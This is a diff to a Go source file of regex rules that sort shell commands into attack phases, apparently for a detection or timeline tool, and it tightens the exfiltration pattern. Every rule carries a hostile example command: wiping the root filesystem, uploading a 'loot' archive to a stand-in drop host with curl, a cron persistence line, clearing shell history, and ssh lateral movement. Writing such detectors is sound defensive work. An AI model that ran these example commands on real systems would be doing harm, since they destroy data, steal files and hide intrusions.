@@ -31,7 +31,7 @@ type PhaseRule struct {
 // echo, exit) have no phase and leave the timeline unchanged.
 var PhaseRules = []PhaseRule{
 	{ukc.Impact, re(`^(rm\s+-[a-z]*r[a-z]*f?[a-z]*\s+/\s*$|rm\s+-[a-z]*f[a-z]*r[a-z]*\s+/\s*$|mkfs(\.\w+)?\s|dd\s.*of=/dev/(sd|nvme|vd|hd)|shred\s|wipefs\s|kill\s+-9\s+-1)`), "rm -rf /"},
-	{ukc.Exfiltration, re(`^(curl\s.*(\s-T\s|\s--upload-file\s|\s-F\s|--data-binary\s+@)|wget\s.*--post-file|nc\s.*<\s*\S|rsync\s.*\s\S+@\S+:|ftp\s.*put\s)`), "curl -T /tmp/loot.tgz https://drop.example/"},
+	{ukc.Exfiltration, re(`^(curl(\s.*)?\s(-T|--upload-file|-F)\s|curl\s.*--data-binary\s+@|wget\s.*--post-file|nc\s.*<\s*\S|rsync\s.*\s\S+@\S+:|ftp\s.*put\s)`), "curl -T /tmp/loot.tgz https://drop.example/"},
 	{ukc.Persistence, re(`^(crontab(\s|$)|.*/etc/cron|.*>>?\s*\S*authorized_keys|systemctl\s+enable|update-rc\.d|.*/etc/rc\.local|useradd\s|adduser\s|.*>>?\s*\S*\.(bashrc|profile|bash_profile))`), "echo '* * * * * /tmp/.x' | crontab -"},
 	{ukc.DefenseEvasion, re(`^(history\s+-c|unset\s+HISTFILE|export\s+HISTFILE=/dev/null|rm\s.*(/var/log|wtmp|btmp|lastlog|\.bash_history)|chattr\s|touch\s+-r\s|setenforce\s+0|iptables\s+-F)`), "history -c"},
 	{ukc.LateralMovement, re(`^(ssh|scp|sshpass|psexec(\.py)?|smbexec(\.py)?|wmiexec(\.py)?|evil-winrm|xfreerdp)\s`), "ssh -i /tmp/.k root@10.0.0.5"},
